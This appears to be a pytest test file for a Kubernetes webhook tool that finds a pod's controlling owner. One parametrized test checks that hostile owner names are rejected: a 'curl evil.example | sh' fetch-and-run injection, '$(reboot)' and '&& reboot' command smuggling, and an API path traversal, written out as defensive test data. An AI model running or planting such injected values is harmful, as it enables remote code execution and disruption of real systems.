"""Who made a pod: words of whoever created it, which become paths of the API and commands for administrators."""

import pytest

from webhook.cli.owners import Owner, owner_of


def made_by(**changes: object) -> dict[str, object]:
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-1.a", "uid": "1", "controller": True, **changes}
    return {"ownerReferences": [owner]}


def test_the_controller_among_a_pods_owners_made_it() -> None:
    assert owner_of(made_by()) == Owner("apps/v1", "ReplicaSet", "web-1.a")
    assert owner_of(made_by(controller=False)) is None
    assert owner_of({}) is None


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "x; curl evil.example | sh"},
        {"name": "$(reboot)"},
        {"name": "../../../../api/v1/namespaces/shop/services/web/proxy/delete"},
        {"name": ".."},
        {"name": "web?watch=true"},
        {"name": "--all"},
        {"name": "a" * 254},
        {"kind": "Job && reboot"},
        {"kind": "J" * 64},
    ],
)
def test_r55_an_owner_named_as_no_object_can_be_is_none(changes: dict[str, object]) -> None:
    """The API server takes any words for it."""
    assert owner_of(made_by(**changes)) is None


@pytest.mark.parametrize(
    ("api_version", "kind", "expected"),
    [
        ("apps/v1", "Deployment", True),
        ("batch/v1", "Job", True),
        ("v1", "ReplicationController", True),
        ("v1", "Deployment", False),
        ("batch/v1", "Deployment", False),
        ("argoproj.io/v1alpha1", "Rollout", False),
    ],
)
def test_a_kind_of_another_group_is_not_kubernetes_own(api_version: str, kind: str, expected: bool) -> None:
    assert Owner(api_version, kind, "web").has_template is expected
